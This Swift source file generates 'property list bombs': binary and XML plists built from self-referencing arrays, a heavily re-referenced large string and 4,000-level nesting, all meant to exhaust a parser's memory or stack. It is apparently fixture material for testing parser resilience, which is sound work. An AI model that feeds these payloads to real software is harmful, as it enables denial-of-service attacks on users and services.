import Foundation

/// Property lists that a program may write to make another one useless.
public enum PropertyListBomb: String, CaseIterable, Sendable {
  /// Some 300 bytes: arrays that name one another ten times, at each of nine levels.
  case arrays
  /// The same as the objects of an archive.
  case archive
  /// A string of 30,000 bytes that is named 15,000 times.
  case wide
  /// Arrays in one another, as text.
  case deep

  /// The bytes of the list.
  public var bytes: [UInt8] {
    switch self {
    case .arrays:
      Self.binary((1...9).map { Self.array(of: Array(repeating: $0, count: 10)) } + [Self.text(1)])
    case .archive:
      Self.binary(
        [[0xD1] + Self.big(1, 2) + Self.big(2, 2), [0x58] + Array("$objects".utf8)]
          + (3...11).map { Self.array(of: Array(repeating: $0, count: 10)) } + [Self.text(1)])
    case .wide: Self.binary([Self.array(of: Array(repeating: 1, count: 15_000)), Self.text(30_000)])
    case .deep:
      Array("<?xml version=\"1.0\"?><plist version=\"1.0\">".utf8)
        + Array(String(repeating: "<array>", count: 4_000).utf8)
        + Array(String(repeating: "</array>", count: 4_000).utf8) + Array("</plist>".utf8)
    }
  }

  /// A binary list: its objects, where each of them is, and a trailer that says so.
  private static func binary(_ objects: [[UInt8]]) -> [UInt8] {
    var bytes = Array("bplist00".utf8)
    var places: [Int] = []
    for object in objects {
      places.append(bytes.count)
      bytes += object
    }
    let table = bytes.count
    for place in places { bytes += big(place, 4) }
    return bytes + [0, 0, 0, 0, 0, 0, 4, 2] + big(places.count, 8) + big(0, 8) + big(table, 8)
  }

  private static func array(of objects: [Int]) -> [UInt8] {
    let head: [UInt8] =
      objects.count < 15 ? [0xA0 | UInt8(objects.count)] : [0xAF, 0x11] + big(objects.count, 2)
    return objects.reduce(into: head) { $0 += big($1, 2) }
  }

  private static func text(_ length: Int) -> [UInt8] {
    [0x5F, 0x11] + big(length, 2) + Array(repeating: UInt8(ascii: "a"), count: length)
  }

  private static func big(_ number: Int, _ width: Int) -> [UInt8] {
    (0..<width).reversed().map { UInt8(number >> (8 * $0) & 0xFF) }
  }
}
